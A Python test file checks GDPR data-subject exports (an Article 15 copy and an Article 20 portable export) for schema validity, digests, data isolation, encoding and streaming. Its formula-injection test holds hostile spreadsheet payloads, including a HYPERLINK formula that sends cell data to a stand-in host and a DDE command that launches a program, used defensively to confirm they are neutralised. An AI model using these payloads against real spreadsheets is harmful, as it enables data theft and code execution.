"""The copy (Art. 15) and the portable export (Art. 20) as files, against a real database with the demo people.

What a person or an auditor checks: the JSON document follows its published JSON Schema; every digest in
the manifest can be recomputed from what was received; the copy holds exactly the person's own rows and the
portable export exactly the items the right covers (written out by hand below from the demo file and the
register); nobody else's data ever appear; a CSV zip opens in any CSV reader, explains every column, and
cannot run a formula in a spreadsheet; accents and emoji survive; and a large export is streamed.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import inspect
import io
import json
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from flask_babel import force_locale
from jsonschema import Draft202012Validator
from sqlalchemy import insert, select

from portal import i18n
from portal.account.downloads import _readme
from portal.models import (
    Consent,
    DataItem,
    Download,
    MarketingObjection,
    Relation,
    RequestedChange,
    RequestEvent,
    RightsRequest,
    Subject,
)
from portal.services.export.downloads import finish_download, start_download
from portal.services.export.formats import (
    ManifestEntry,
    Receipt,
    canonical,
    csv_cell,
    json_export,
    manifest_digest,
    neutralise,
    zip_export,
)
from portal.services.export.tables import COPY, PORTABLE, build_export
from portal.services.requests import submit_request
from tests.support.contexts import context
from tests.support.people import AN, BRAM, CHLOE, DRIES, EVA, FRANK, GERT, HANNE, PEOPLE

SCHEMA_PATH = Path(__file__).resolve().parents[3] / "portal" / "schemas" / "portal-export-1.schema.json"
NOW = dt.datetime(2026, 11, 25, 12, 0, 0)  # naive UTC, as the portal stores moments
TODAY = NOW.date()

COPY_TABLES = ("subject", "relations", "purposes", "categories", "data_items", "consents", "marketing_objections",
               "requests", "request_events", "requested_changes", "downloads")
PORTABLE_TABLES = ("subject", "data_items")

# What the portable export of each demo person holds, worked out by hand from portal/demo/subjects.json and
# [right.portability] (sources provided/observed; a purpose on consent or contract uses the category):
# (relation, category, field, value, source, recorded). Left out, per person:
#   An: name and job title (third_party), office address (public), invoice (derived).
#   Bram: company (public), assignment (derived).
#   Chloé: CV and date of birth (recruitment: only applicant.1, pre_contract), interview notes and our
#          e-mail (derived).
#   Dries: application form (recruitment: pre_contract only), interview notes (derived).
#   Eva: the group photo (derived).
#   Frank: his contact form (visitor correspondence: only visitor.1, pre_contract), our answer (derived).
#   Gert: the final invoice (derived).
#   Hanne: the webinar recording (derived).
PORTABLE_ITEMS = {
    AN: {
        ("customer", "contact", "phone", "+32 9 123 45 67", "provided", "2019-03-04"),
        ("customer", "correspondence", "e-mail", "Question about the scope of the webshop project", "provided",
         "2025-11-18"),
        ("customer", "correspondence", "feedback", "Feedback after the go-live: very satisfied with the team",
         "provided", "2026-10-02"),
        ("customer", "payment", "bank account", "BE68 5390 0754 7034", "provided", "2019-03-20"),
        ("visitor", "contact", "e-mail", "an.peeters@example.com", "provided", "2021-05-10"),
    },
    BRAM: {
        ("supplier", "contact", "name", "Bram De Clercq", "provided", "2020-01-15"),
        ("supplier", "contact", "phone", "+32 470 12 34 56", "provided", "2020-01-15"),
        ("supplier", "correspondence", "e-mail", "Agreement on the UX sprint for the webshop project", "provided",
         "2023-09-12"),
        ("supplier", "delivery", "bank account", "BE71 0961 2345 6769", "provided", "2020-01-15"),
    },
    CHLOE: {
        ("applicant", "contact", "name", "Chloé Martin", "provided", "2026-01-05"),
        ("applicant", "contact", "home address", "Rue Haute 12, 1000 Brussels", "provided", "2026-01-05"),
    },
    # Dries gave no talent-pool consent: his contact data serve only the application (steps before a
    # contract), which the right does not cover.
    DRIES: set(),
    EVA: {
        ("participant", "contact", "name", "Eva Janssens", "provided", "2025-02-20"),
        ("participant", "contact", "job title", "Product owner", "provided", "2025-02-20"),
        ("participant", "participation", "company", "Stad Gent", "provided", "2025-02-20"),
        ("participant", "participation", "dietary restrictions", "Vegetarian", "provided", "2025-02-20"),
        ("participant", "participation", "business card", "Business card left at the event desk", "provided",
         "2025-03-14"),
    },
    # Frank never subscribed to the newsletter: his name and company serve only the prospect purpose
    # (legitimate interest); his cookie consent covers what was observed online.
    FRANK: {
        ("visitor", "online", "IP address", "203.0.113.42", "observed", "2024-02-01"),
        ("visitor", "online", "connection time", "2024-02-01 14:02 CET", "observed", "2024-02-01"),
    },
    GERT: {
        ("customer", "contact", "name", "Gert Maes", "provided", "2012-04-01"),
        ("customer", "contact", "e-mail", "gert.maes@example.com", "provided", "2012-04-01"),
    },
    HANNE: {
        ("participant", "contact", "name", "Hanne Claes", "provided", "2026-09-10"),
        ("participant", "participation", "webinar question", "How do you test accessibility in a design system?",
         "provided", "2026-09-24"),
        ("customer", "contact", "job title", "Design lead, Claes Studio", "provided", "2026-10-15"),
        ("customer", "correspondence", "e-mail", "Kick-off planning for the design system audit", "provided",
         "2026-11-20"),
    },
}
# How many items the demo file holds for each person, in all (the copy holds every one of them).
ITEM_COUNTS = {AN: 9, BRAM: 6, CHLOE: 6, DRIES: 4, EVA: 6, FRANK: 6, GERT: 3, HANNE: 5}


# --- helpers ------------------------------------------------------------------------------------------------


def schema_validator() -> Draft202012Validator:
    schema = json.loads(SCHEMA_PATH.read_text(encoding="utf-8"))
    Draft202012Validator.check_schema(schema)
    return Draft202012Validator(schema)


def json_download(session, register, email, kind, *, language="en", now=NOW, download_id=None):
    """A JSON export as the person receives it: its bytes, the parsed document, the chunks and the receipt."""
    session.expire_all()
    export = build_export(session, email, kind, register=register, language=language, now=now,
                          download_id=download_id)
    receipt = Receipt()
    chunks = list(json_export(export, receipt))
    data = b"".join(chunks)
    return data, json.loads(data.decode("utf-8")), chunks, receipt


def zip_download(app, session, register, email, kind, *, language="en", now=NOW):
    """A CSV zip as the download view writes it (with its README), in `language`."""
    session.expire_all()
    with app.test_request_context(), force_locale(i18n.BABEL_LOCALES[language]):
        export = build_export(session, email, kind, register=register, language=language, now=now)
        columns = {table.name: table.columns for table in export.tables}
        receipt = Receipt()
        chunks = list(zip_export(export, _readme(kind, columns), receipt))
    return b"".join(chunks), export, chunks, receipt


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""), strict=True))


def subject_id(session, email: str) -> int:
    return session.scalar(select(Subject.id).where(Subject.email == email))


def items_in_db(session, email: str) -> list[DataItem]:
    return list(session.scalars(select(DataItem).join(Relation).join(Subject).where(Subject.email == email)))


def relation_of(session, email: str, kind: str) -> int:
    return session.scalar(select(Relation.id).join(Subject).where(Subject.email == email, Relation.kind == kind))


def add_item(session, relation_id: int, value: str, *, field: str = "e-mail", category: str = "correspondence",
             source: str = "provided", n: int = 0) -> int:
    item = DataItem(relation_id=relation_id, category=category, field=field, value=value, source=source,
                    recorded=dt.date(2026, 1, 1) + dt.timedelta(days=n), fingerprint=f"test-{relation_id}-{n}")
    session.add(item)
    session.commit()
    return item.id


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def spreadsheet_cell(value) -> str:
    """What docs/export-format.md promises a CSV cell holds for a JSON value."""
    if value is None:
        return ""
    if value is True or value is False:
        return "true" if value else "false"
    text = "; ".join(str(v) for v in value) if isinstance(value, list) else str(value)
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


def with_history(session, register) -> None:
    """An and Bram each made requests, objected to direct marketing and downloaded before."""
    for email, secret in ((AN, "An asks for everything"), (BRAM, "Bram's own question")):
        submit_request(session, context(register, today=TODAY, now=NOW - dt.timedelta(days=3), notifier=None),
                       email=email, right="access", idempotency_key=f"access-{email}", details=secret)
        item = items_in_db(session, email)[0]
        submit_request(session, context(register, today=TODAY, now=NOW - dt.timedelta(days=2), notifier=None),
                       email=email, right="rectification", idempotency_key=f"rect-{email}",
                       changes=[(item.id, item.field, item.value, f"{email} new value")])
        session.add(MarketingObjection(email=email, objected_at=NOW - dt.timedelta(days=10),
                                       lifted_at=NOW - dt.timedelta(days=5) if email == AN else None))
        session.commit()
        earlier = start_download(session, email, PORTABLE, "csv", register=register, now=NOW - dt.timedelta(days=1))
        finish_download(session, earlier.id, Receipt(manifest_digest="a" * 64, file_digest="b" * 64),
                        now=NOW - dt.timedelta(days=1))
        session.commit()


# --- the JSON document: its schema and its digests ----------------------------------------------------------


@pytest.mark.clause("2.4.access", "2.4.portability")
@pytest.mark.parametrize("kind", [COPY, PORTABLE])
@pytest.mark.parametrize("email", PEOPLE)
def test_the_json_export_follows_its_published_schema(session, register, demo, email, kind):
    validator = schema_validator()
    for language in ("nl", "en"):
        _data, document, _chunks, _receipt = json_download(session, register, email, kind, language=language)
        errors = [f"{'/'.join(map(str, e.absolute_path))}: {e.message}" for e in validator.iter_errors(document)]
        assert errors == []
        assert (document["format"], document["kind"], document["subject_email"]) == ("portal-export/1", kind, email)
        assert document["language"] == language
        assert document["generated_at"] == "2026-11-25T12:00:00Z"
        # The statement in force (the register's current version), not a version written into the code.
        assert (document["statement_version"], document["statement_date"]) == (
            register.statement.version, register.statement.date.isoformat())
        assert document["statement_date"] == "2023-06-20"
        assert document["controller"] == "We Are Technology BV"
        assert tuple(document["tables"]) == (COPY_TABLES if kind == COPY else PORTABLE_TABLES)


def test_the_schema_rejects_what_the_format_does_not_allow(session, register, demo):
    """The schema is a real check: a portable export with a derived item or an extra table does not pass."""
    validator = schema_validator()
    _data, document, _chunks, _receipt = json_download(session, register, AN, PORTABLE)
    assert validator.is_valid(document)
    derived = json.loads(json.dumps(document))
    derived["tables"]["data_items"][0]["source"] = "derived"
    assert not validator.is_valid(derived)
    extra = json.loads(json.dumps(document))
    extra["tables"]["consents"] = []
    assert not validator.is_valid(extra)
    local_time = json.loads(json.dumps(document))
    local_time["generated_at"] = "2026-11-25T13:00:00+01:00"
    assert not validator.is_valid(local_time)


@pytest.mark.clause("2.4.access", "2.4.portability")
@pytest.mark.parametrize("kind", [COPY, PORTABLE])
@pytest.mark.parametrize("email", [AN, CHLOE, HANNE])
def test_every_digest_can_be_recomputed_from_the_received_document(session, register, demo, email, kind):
    with_history(session, register)
    data, document, _chunks, receipt = json_download(session, register, email, kind)
    manifest = document["manifest"]
    assert [entry["name"] for entry in manifest["tables"]] == list(document["tables"])
    for entry in manifest["tables"]:
        records = document["tables"][entry["name"]]
        assert entry["rows"] == len(records), entry["name"]
        assert entry["sha256"] == sha256(b"".join(canonical(record) for record in records)), entry["name"]
    # The manifest digest, as docs/export-format.md tells a reader to compute it.
    listed = json.dumps(manifest["tables"], ensure_ascii=False, sort_keys=True, separators=(",", ":"))
    assert manifest["digest"] == sha256(listed.encode("utf-8"))
    # What the portal records of this download is what the person received.
    assert receipt.complete
    assert receipt.manifest_digest == manifest["digest"]
    assert receipt.file_digest == sha256(data)
    assert receipt.size == len(data)
    assert receipt.rows == sum(entry["rows"] for entry in manifest["tables"])


def test_canonical_form_is_compact_sorted_utf8_with_a_newline():
    record = {"b": "Zoë 🎉", "a": 1, "c": None, "d": [True, "x"]}
    assert canonical(record) == '{"a":1,"b":"Zoë 🎉","c":null,"d":[true,"x"]}\n'.encode()
    assert canonical({"a": 1, "b": 2}) == canonical({"b": 2, "a": 1})


def test_manifest_digest_is_the_sha256_of_the_listed_tables():
    entries = [ManifestEntry("subject", 1, "0" * 64), ManifestEntry("data_items", 3, "f" * 64)]
    expected = ('[{"name":"subject","rows":1,"sha256":"' + "0" * 64 + '"},'
                '{"name":"data_items","rows":3,"sha256":"' + "f" * 64 + '"}]')
    assert manifest_digest(entries) == sha256(expected.encode())
    assert manifest_digest(entries) != manifest_digest(list(reversed(entries)))  # the order is part of it


def test_a_tampered_document_no_longer_matches_its_manifest(session, register, demo):
    _data, document, _chunks, _receipt = json_download(session, register, AN, COPY)
    entry = next(e for e in document["manifest"]["tables"] if e["name"] == "data_items")
    records = document["tables"]["data_items"]
    records[0]["value"] = records[0]["value"] + " (changed)"
    assert entry["sha256"] != sha256(b"".join(canonical(record) for record in records))


def test_the_same_data_at_the_same_moment_give_the_same_bytes(session, register, demo):
    first, _doc, _chunks, one = json_download(session, register, AN, COPY)
    second, _doc, _chunks, two = json_download(session, register, AN, COPY)
    assert first == second and one.manifest_digest == two.manifest_digest
    later, _doc, _chunks, three = json_download(session, register, AN, COPY, now=NOW + dt.timedelta(hours=1))
    assert later != first  # the moment is in the header ...
    assert three.manifest_digest == one.manifest_digest  # ... not in the tables


# --- the copy holds exactly the person's own rows ------------------------------------------------------------


@pytest.mark.clause("2.4.access")
def test_the_copy_holds_exactly_the_persons_rows(session, register, demo):
    with_history(session, register)
    current = start_download(session, AN, COPY, "json", register=register, now=NOW)
    _data, document, _chunks, _receipt = json_download(session, register, AN, COPY, download_id=current.id)
    tables = document["tables"]
    an = subject_id(session, AN)

    assert tables["subject"] == [{"email": AN, "name": "An Peeters", "language": "nl"}]

    relations = session.scalars(select(Relation).where(Relation.subject_id == an)).all()
    assert {(r["relation_id"], r["relation"], r["started"], r["ended"]) for r in tables["relations"]} == {
        (r.id, r.kind, r.started.isoformat(), None) for r in relations}
    assert {r["relation"] for r in tables["relations"]} == {"customer", "visitor"}

    # Every purpose of her two relations, from the register's purposes of 3.1 and 3.3.
    assert sorted(p["purpose"] for p in tables["purposes"]) == [
        "customer.1", "customer.2", "customer.3", "customer.4", "customer.5", "visitor.1", "visitor.2", "visitor.3"]

    held = items_in_db(session, AN)
    assert len(held) == ITEM_COUNTS[AN]
    assert sorted((i["item_id"], i["category"], i["field"], i["value"], i["source"], i["recorded"])
                  for i in tables["data_items"]) == sorted(
        (i.id, i.category, i.field, i.value, i.source, i.recorded.isoformat()) for i in held)

    consents = session.scalars(select(Consent).where(Consent.subject_id == an)).all()
    assert [(c["purpose"], c["given"], c["withdrawn"]) for c in tables["consents"]] == [
        (c.purpose, c.given.isoformat(), None) for c in consents] == [("visitor.2", "2021-05-10", None)]

    assert tables["marketing_objections"] == [{"objected_at": "2026-11-15T12:00:00Z",
                                               "lifted_at": "2026-11-20T12:00:00Z"}]

    requests = session.scalars(select(RightsRequest).where(RightsRequest.email == AN)).all()
    assert len(requests) == 2
    assert sorted((r["request_id"], r["right"], r["status"], r["details"]) for r in tables["requests"]) == sorted(
        (r.id, r.right, r.status, r.details) for r in requests)
    events = session.scalars(select(RequestEvent).join(RightsRequest).where(RightsRequest.email == AN)).all()
    assert sorted((e["request_id"], e["actor"], e["status"]) for e in tables["request_events"]) == sorted(
        (e.request_id, e.actor, e.status) for e in events)
    changes = session.scalars(select(RequestedChange).join(RightsRequest).where(RightsRequest.email == AN)).all()
    assert [(c["request_id"], c["field"], c["old_value"], c["new_value"]) for c in tables["requested_changes"]] == [
        (c.request_id, c.field, c.old_value, c.new_value) for c in changes]
    assert changes[0].new_value == f"{AN} new value"

    # Her earlier download is listed; the one being made is not (it is not complete yet), nor Bram's.
    assert tables["downloads"] == [{
        "started_at": "2026-11-24T12:00:00Z", "completed_at": "2026-11-24T12:00:00Z", "kind": "portable",
        "format": "csv", "statement_version": register.statement.version, "manifest_digest": "a" * 64,
        "file_digest": "b" * 64,
    }]
    assert session.scalar(select(Download.id).where(Download.id == current.id)) is not None


@pytest.mark.clause("2.4.access", "3.1.purposes", "3.1.legal_basis")
def test_the_copy_explains_each_item_with_its_purposes_bases_and_portability(session, register, demo):
    _data, document, _chunks, _receipt = json_download(session, register, AN, COPY)
    by_field = {(i["relation"], i["field"]): i for i in document["tables"]["data_items"]}
    bank = by_field[("customer", "bank account")]
    assert (bank["purposes"], bank["legal_bases"]) == (["customer.2", "customer.4"], ["contract"])
    assert bank["portable"] is True
    phone = by_field[("customer", "phone")]
    assert phone["purposes"] == ["customer.1", "customer.2", "customer.3", "customer.4", "customer.5"]
    assert phone["legal_bases"] == ["contract", "legitimate_interest"]
    invoice = by_field[("customer", "invoice")]
    assert invoice["source"] == "derived" and invoice["portable"] is False
    # The copy's flag agrees with what the portable export holds, item by item.
    portable = {(i["relation"], i["category"], i["field"], i["value"], i["source"], i["recorded"])
                for i in document["tables"]["data_items"] if i["portable"]}
    assert portable == PORTABLE_ITEMS[AN]


@pytest.mark.clause("2.4.access")
def test_a_person_we_hold_nothing_about_gets_only_their_address(session, register, demo):
    validator = schema_validator()
    for kind in (COPY, PORTABLE):
        _data, document, _chunks, _receipt = json_download(session, register, "nobody@example.org", kind)
        assert validator.is_valid(document)
        assert document["tables"]["subject"][0]["email"] == "nobody@example.org"
        assert document["tables"]["data_items"] == []
        assert all(entry["rows"] == 0 for entry in document["manifest"]["tables"] if entry["name"] != "subject")


# --- the portable export holds exactly what the right covers -------------------------------------------------


@pytest.mark.clause("2.4.portability")
@pytest.mark.parametrize("email", PEOPLE)
def test_the_portable_export_holds_exactly_the_covered_items(session, register, demo, email):
    _data, document, _chunks, _receipt = json_download(session, register, email, PORTABLE)
    items = document["tables"]["data_items"]
    assert {(i["relation"], i["category"], i["field"], i["value"], i["source"], i["recorded"])
            for i in items} == PORTABLE_ITEMS[email]
    assert len(items) == len(PORTABLE_ITEMS[email])  # no item twice
    # The ids are the person's own items with those values.
    ids = {(i.relation.kind, i.field, i.value): i.id for i in items_in_db(session, email)}
    assert len(ids) == ITEM_COUNTS[email]
    assert {i["item_id"] for i in items} == {ids[(kind, field, value)]
                                             for kind, _c, field, value, _s, _r in PORTABLE_ITEMS[email]}
    # Only what the portable format describes: no purposes, bases, retention or language.
    assert all(set(i) == {"item_id", "relation", "category", "field", "value", "source", "recorded"} for i in items)
    assert set(document["tables"]["subject"][0]) == {"email", "name"}
    assert document["manifest"]["tables"][1] == {
        "name": "data_items", "rows": len(PORTABLE_ITEMS[email]),
        "sha256": sha256(b"".join(canonical(i) for i in items))}


# --- nobody else's data ----------------------------------------------------------------------------------------


def others_values(session, email: str) -> set[str]:
    """What would betray another demo person: their address, name and every value we hold on them."""
    found: set[str] = set()
    for other in PEOPLE:
        if other == email:
            continue
        subject = session.scalar(select(Subject).where(Subject.email == other))
        found |= {other, subject.name} | {i.value for i in items_in_db(session, other)}
    return found


@pytest.mark.clause("1.care", "2.4.access", "2.4.portability")
@pytest.mark.parametrize("email", PEOPLE)
def test_no_other_persons_data_appear_in_any_export(app, session, register, demo, email):
    with_history(session, register)  # An and Bram also made requests, objected and downloaded
    texts = []
    for kind in (COPY, PORTABLE):
        data, _doc, _chunks, _receipt = json_download(session, register, email, kind)
        texts.append(data.decode("utf-8"))
        archive, _export, _chunks, _receipt = zip_download(app, session, register, email, kind)
        with zipfile.ZipFile(io.BytesIO(archive)) as opened:
            texts += [opened.read(name).decode("utf-8") for name in opened.namelist()]
    everything = "\n".join(texts)
    assert email in everything
    leaked = sorted(value for value in others_values(session, email) if value in everything)
    assert leaked == []
    secrets = {AN: "An asks for everything", BRAM: "Bram's own question"}
    for owner, secret in secrets.items():
        assert (secret in everything) == (owner == email)


# --- the CSV zip -------------------------------------------------------------------------------------------------


@pytest.mark.clause("2.4.portability")
@pytest.mark.parametrize("kind", [COPY, PORTABLE])
@pytest.mark.parametrize("email", [AN, FRANK, HANNE])
def test_the_csv_zip_opens_in_any_csv_reader_and_checks_out(app, session, register, demo, email, kind):
    with_history(session, register)
    archive, export, _chunks, receipt = zip_download(app, session, register, email, kind)
    _data, document, _chunks, _receipt = json_download(session, register, email, kind)
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        assert opened.testzip() is None
        names = opened.namelist()
        files = {name: opened.read(name) for name in names}
    tables = [table.name for table in export.tables]
    assert names == [f"{t}.csv" for t in tables] + ["manifest.json", "README.txt"]

    manifest_bytes = files["manifest.json"]
    manifest = json.loads(manifest_bytes)
    assert receipt.manifest_digest == sha256(manifest_bytes)
    assert receipt.file_digest == sha256(archive) and receipt.size == len(archive) and receipt.complete
    assert (manifest["format"], manifest["kind"], manifest["subject_email"]) == ("portal-export/1", kind, email)
    assert manifest["generated_at"] == "2026-11-25T12:00:00Z"
    assert [f["name"] for f in manifest["files"]] == [f"{t}.csv" for t in tables]

    for table, entry in zip(export.tables, manifest["files"], strict=True):
        raw = files[entry["name"]]
        assert not raw.startswith(b"\xef\xbb\xbf")  # UTF-8 without BOM
        assert entry["sha256"] == sha256(raw), entry["name"]
        assert raw.endswith(b"\r\n") and b"\n" not in raw.replace(b"\r\n", b"")  # CRLF line ends only
        rows = read_csv(raw)
        assert rows[0] == list(table.columns), entry["name"]
        assert entry["rows"] == len(rows) - 1, entry["name"]
        assert all(len(row) == len(table.columns) for row in rows)
        # Each row says what the JSON document says, as docs/export-format.md writes cells.
        records = document["tables"][table.name]
        assert rows[1:] == [[spreadsheet_cell(r[c]) for c in table.columns] for r in records], entry["name"]

    readme = files["README.txt"].decode("utf-8")
    assert receipt.manifest_digest in readme and email in readme and register.statement.version in readme
    for table in export.tables:
        assert f"{table.name}.csv" in readme
        for column in table.columns:
            assert f"- {column} (" in readme, f"{table.name}.{column} is not explained"


def test_the_readme_is_in_the_persons_language(app, session, register, demo):
    texts = {}
    for language in ("nl", "en"):
        archive, _export, _chunks, _receipt = zip_download(app, session, register, AN, PORTABLE, language=language)
        with zipfile.ZipFile(io.BytesIO(archive)) as opened:
            texts[language] = opened.read("README.txt").decode("utf-8")
    assert texts["en"].startswith("Portable export of your personal data")
    with app.test_request_context(), force_locale(i18n.BABEL_LOCALES["nl"]):
        from flask_babel import gettext
        dutch_title = gettext("Portable export of your personal data")
    assert texts["nl"].startswith(dutch_title)
    assert "Article 20 GDPR" in texts["en"]


@pytest.mark.clause("2.4.portability")
def test_the_portable_csv_holds_the_same_items_as_the_portable_json(app, session, register, demo):
    archive, _export, _chunks, _receipt = zip_download(app, session, register, FRANK, PORTABLE)
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        rows = read_csv(opened.read("data_items.csv"))
    header, body = rows[0], rows[1:]
    records = {tuple(dict(zip(header, row, strict=True))[c] for c in
                     ("relation", "category", "field", "value", "source", "recorded")) for row in body}
    assert records == PORTABLE_ITEMS[FRANK]


# --- formula injection ---------------------------------------------------------------------------------------------


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tTab first", "\rCarriage return first"]


def test_values_a_spreadsheet_would_run_are_neutralised_in_csv_only(app, session, register, demo):
    customer = relation_of(session, AN, "customer")
    ids = {add_item(session, customer, value, n=n): value for n, value in enumerate(FORMULAS)}
    field_id = add_item(session, customer, "plain value", field="=cmd()", n=len(FORMULAS))
    harmless = {"a = b", "Call me @ home", "x-1", "'already quoted"}
    for n, value in enumerate(sorted(harmless), start=len(FORMULAS) + 1):
        ids[add_item(session, customer, value, n=n)] = value

    _data, document, _chunks, _receipt = json_download(session, register, AN, COPY)
    in_json = {i["item_id"]: i for i in document["tables"]["data_items"]}
    for item_id, value in ids.items():
        assert in_json[item_id]["value"] == value  # the JSON keeps the value as it is
    assert in_json[field_id]["field"] == "=cmd()"

    for kind in (COPY, PORTABLE):
        archive, _export, _chunks, _receipt = zip_download(app, session, register, AN, kind)
        with zipfile.ZipFile(io.BytesIO(archive)) as opened:
            rows = read_csv(opened.read("data_items.csv"))
        header = rows[0]
        in_csv = {int(row[header.index("item_id")]): dict(zip(header, row, strict=True)) for row in rows[1:]}
        for item_id, value in ids.items():
            expected = "'" + value if value in FORMULAS else value
            assert in_csv[item_id]["value"] == expected, repr(value)
        assert in_csv[field_id]["field"] == "'=cmd()"
        # No cell of any kind starts with a character a spreadsheet would run.
        assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize(("cell", "expected"), [
    ("=1+1", "'=1+1"),
    ("+32 9 123 45 67", "'+32 9 123 45 67"),
    ("-1", "'-1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("a=1", "a=1"),
    (" =1", " =1"),
    ("", ""),
    ("'=1", "'=1"),
    ("Zoë", "Zoë"),
])
def test_neutralise(cell, expected):
    assert neutralise(cell) == expected


@pytest.mark.parametrize(("value", "expected"), [
    (None, ""),
    (True, "true"),
    (False, "false"),
    (0, "0"),
    (42, "42"),
    (-3, "'-3"),
    ("plain", "plain"),
    ("=A1", "'=A1"),
    (["customer.1", "customer.2"], "customer.1; customer.2"),
    (["=evil", "x"], "'=evil; x"),
    ([], ""),
])
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected


# --- accents and emoji ------------------------------------------------------------------------------------------


def test_accents_and_emoji_survive_json_and_csv(app, session, register):
    name = "Zoë Ñandú 🎉"
    subject = Subject(email="zoe@example.com", name=name, language="en")
    session.add(subject)
    session.flush()
    relation = Relation(subject_id=subject.id, kind="customer", started=dt.date(2025, 1, 1))
    session.add(relation)
    session.commit()
    values = {"Zoë Ñandú 🎉", "Straße 5, Łódź – “quoted”, comma", "Line one\nline two", 'Say "hi" 👋🏽'}
    for n, value in enumerate(sorted(values)):
        add_item(session, relation.id, value, n=n)

    for kind in (COPY, PORTABLE):
        data, document, _chunks, _receipt = json_download(session, register, "zoe@example.com", kind)
        assert name.encode("utf-8") in data  # written as UTF-8, not \u-escaped
        assert document["tables"]["subject"][0]["name"] == name
        assert {i["value"] for i in document["tables"]["data_items"]} == values

        archive, _export, _chunks, _receipt = zip_download(app, session, register, "zoe@example.com", kind)
        with zipfile.ZipFile(io.BytesIO(archive)) as opened:
            subject_rows = read_csv(opened.read("subject.csv"))
            item_rows = read_csv(opened.read("data_items.csv"))
        assert subject_rows[1][subject_rows[0].index("name")] == name
        column = item_rows[0].index("value")
        assert {row[column] for row in item_rows[1:]} == values


# --- large exports are streamed ----------------------------------------------------------------------------------


def add_many(session, relation_id: int, count: int) -> None:
    session.execute(insert(DataItem), [
        {"relation_id": relation_id, "category": ("contact", "correspondence", "payment")[n % 3],
         "field": "e-mail", "value": f"Message number {n} with some text to make it longer",
         "source": "provided", "recorded": dt.date(2020, 1, 1) + dt.timedelta(days=n % 2000),
         "fingerprint": f"bulk-{relation_id}-{n}"}
        for n in range(count)
    ])
    session.commit()


def test_a_large_json_export_is_produced_in_chunks(session, register, demo):
    add_many(session, relation_of(session, AN, "customer"), 5000)
    session.expire_all()
    export = build_export(session, AN, COPY, register=register, language="en", now=NOW)
    receipt = Receipt()
    stream = json_export(export, receipt)
    assert inspect.isgenerator(stream)
    first = next(stream)
    assert receipt.entries == [] and not receipt.complete  # nothing read yet beyond the header
    chunks = [first, *stream]
    assert receipt.complete
    assert len(chunks) >= 15  # 5,009 items, about 1.5 MB, written about 64 KB at a time
    assert max(len(chunk) for chunk in chunks) < 200_000  # never the whole document at once
    document = json.loads(b"".join(chunks))
    rows = {entry["name"]: entry["rows"] for entry in document["manifest"]["tables"]}
    assert rows["data_items"] == len(document["tables"]["data_items"]) == 5000 + ITEM_COUNTS[AN]
    assert receipt.rows == sum(rows.values())
    assert len({i["item_id"] for i in document["tables"]["data_items"]}) == 5000 + ITEM_COUNTS[AN]


def test_a_large_csv_export_is_produced_in_chunks(app, session, register, demo):
    add_many(session, relation_of(session, AN, "customer"), 5000)
    archive, _export, chunks, receipt = zip_download(app, session, register, AN, PORTABLE)
    assert len([chunk for chunk in chunks if chunk]) >= 3
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        rows = read_csv(opened.read("data_items.csv"))
        manifest = json.loads(opened.read("manifest.json"))
    expected = 5000 + len(PORTABLE_ITEMS[AN])
    assert len(rows) - 1 == expected
    assert {f["name"]: f["rows"] for f in manifest["files"]}["data_items.csv"] == expected
    assert receipt.rows == expected + 1  # and the subject


def peak_memory_of_streaming(session, register, email: str) -> tuple[int, int]:
    """The peak of Python allocations while a JSON copy streams into a sink that keeps nothing, and its size."""
    session.expire_all()
    export = build_export(session, email, COPY, register=register, language="en", now=NOW)
    size = 0
    tracemalloc.start()
    try:
        for chunk in json_export(export):
            size += len(chunk)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return peak, size


def test_streaming_memory_does_not_grow_with_the_export(session, register, demo):
    customer = relation_of(session, AN, "customer")
    add_many(session, customer, 5000)
    small_peak, small_size = peak_memory_of_streaming(session, register, AN)
    add_many_more = 20_000
    session.execute(insert(DataItem), [
        {"relation_id": customer, "category": "correspondence", "field": "e-mail",
         "value": f"Another message {n} with some text to make it longer", "source": "provided",
         "recorded": dt.date(2021, 1, 1), "fingerprint": f"more-{n}"}
        for n in range(add_many_more)
    ])
    session.commit()
    large_peak, large_size = peak_memory_of_streaming(session, register, AN)
    assert large_size > 4 * small_size
    # Five times the data: the peak stays well under the document and grows far less than the data do.
    assert large_peak < large_size / 2, (large_peak, large_size)
    assert large_peak < 2 * small_peak + 1_000_000, (small_peak, large_peak)
